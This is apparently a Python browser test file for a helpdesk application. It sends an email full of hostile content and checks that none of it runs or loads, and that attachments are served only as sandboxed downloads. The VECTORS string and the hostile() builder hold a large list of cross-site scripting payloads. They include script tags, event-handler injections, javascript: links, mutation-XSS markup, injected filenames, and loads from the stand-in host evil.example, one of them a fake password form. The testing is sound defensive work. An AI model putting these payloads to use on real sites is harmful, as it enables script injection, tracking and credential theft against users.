"""A hostile letter is shown to members and to its sender, and nothing of it runs, loads or leaves."""

from __future__ import annotations

from email.message import EmailMessage
from urllib.parse import urljoin

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import House, Opener
from tests.browser.postman import letter, post

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("desk")]

EVIL = "http://evil.example"
SHORT = "<img src=x onerror=alert(1)>"
VECTORS = f"""
<script>alert(1)</script><script src="{EVIL}/s.js"></script>
<img src="{EVIL}/pixel.gif" onerror="alert(1)"><img src=x onerror=alert(1)>
<svg onload=alert(1)><script>alert(1)</script></svg><svg><use href="{EVIL}/u.svg#a"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="{EVIL}/f"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><link rel="stylesheet" href="{EVIL}/l.css">
<link rel="prefetch" href="{EVIL}/p"><meta http-equiv="refresh" content="0;url={EVIL}/m"><base href="{EVIL}/">
<style>@import "{EVIL}/i.css"; body {{ background: url({EVIL}/b.png) }}</style>
<div style="background:url({EVIL}/d.png);position:fixed;inset:0;z-index:99">над всем</div>
<a href="javascript:alert(1)">ссылка</a><a href="data:text/html,<script>alert(1)</script>">другая</a>
<form action="{EVIL}/form"><input name=password autofocus onfocus=alert(1)><button>Войти</button></form>
<video src="{EVIL}/v" poster="{EVIL}/vp" autoplay onloadstart=alert(1)></video><audio src="{EVIL}/a"></audio>
<img srcset="{EVIL}/set 2x" src="//evil.example/proto"><picture><source srcset="{EVIL}/src"><img></picture>
<table background="{EVIL}/t.png"><td>ячейка</td></table><body background="{EVIL}/bb.png" onload=alert(1)>
<details open ontoggle=alert(1)>x</details><p>Обычные слова этого письма.</p>
"""


def hostile() -> EmailMessage:
    message = letter(
        f"Обычные слова. {SHORT} {{{{7*7}}}} </textarea><script>alert(1)</script>\n--\n{SHORT}",
        sender=f'"{SHORT.replace(chr(34), "")} Злодей" <evil@evil.example>',
        subject=f"{SHORT}</title><script>alert(1)</script>Злое письмо",
    )
    message.add_alternative(VECTORS, subtype="html")
    message.add_attachment(VECTORS.encode(), maintype="text", subtype="html", filename=f"{SHORT}.html")
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
    message.add_attachment(
        svg, maintype="image", subtype="svg+xml", filename="'\"><b onmouseover=alert(1)>.svg"
    )
    return message


def test_nothing_of_a_hostile_letter_runs_or_loads(house: House, opened: Opener) -> None:
    page = opened(house.url, "/board/all/", house.sessions["anna"])
    post(house.desk, hostile())
    expect(page.locator("#rows")).to_contain_text("Злодей")
    (number,) = house.desk.rows(
        "SELECT ticket_id FROM desk_message WHERE subject LIKE '%Злое письмо%' AND direction = 'in'"
    )[0]
    for lens in ("facts", "person", "written"):
        page.goto(f"{house.url}/tickets/{number}/?lens={lens}")
        expect(page.locator("#letters")).to_contain_text("Обычные слова")
    _open_the_frame(page)
    page.goto(f"{house.url}/search/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")
    page.goto(f"{house.url}/post/?show=all")
    expect(page.locator("main")).to_contain_text("Злое письмо")
    client = opened(house.url, _client_page(house, page, number))
    expect(client.locator("main")).to_contain_text("Обычные слова")
    assert EVIL not in client.content()


def test_what_a_stranger_attached_is_saved_and_never_shown(house: House, opened: Opener) -> None:
    page = opened(house.url, "", house.sessions["anna"])
    post(house.desk, hostile())
    house.desk.wait_until_sorted(1)
    for address in _attachments(house):
        answer = page.request.get(urljoin(house.url, address))
        assert answer.ok
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-type"] == "application/octet-stream"
        assert "sandbox" in answer.headers["content-security-policy"]


def _open_the_frame(page: Page) -> None:
    page.locator("details.rich summary").first.click()
    inside = page.frame_locator("details.rich iframe")
    expect(inside.locator("body")).to_contain_text("Обычные слова этого письма")
    assert inside.locator("script, iframe, object, embed, form, link, meta[http-equiv]").count() == 0
    assert page.locator("details.rich iframe").get_attribute("sandbox") is not None
    page.wait_for_timeout(300)  # time enough for a request that must not be made


def _client_page(house: House, page: Page, number: int) -> str:
    page.goto(f"{house.url}/tickets/{number}/")
    return page.locator(".linkbox input").input_value().removeprefix(house.url)


def _attachments(house: House) -> list[str]:
    rows = house.desk.rows(
        "SELECT a.key FROM desk_attachment a JOIN desk_message m ON m.id = a.message_id "
        "WHERE m.subject LIKE '%Злое письмо%'"
    )
    assert len(rows) >= 2
    return [f"/attachments/{key}/" for (key,) in rows]
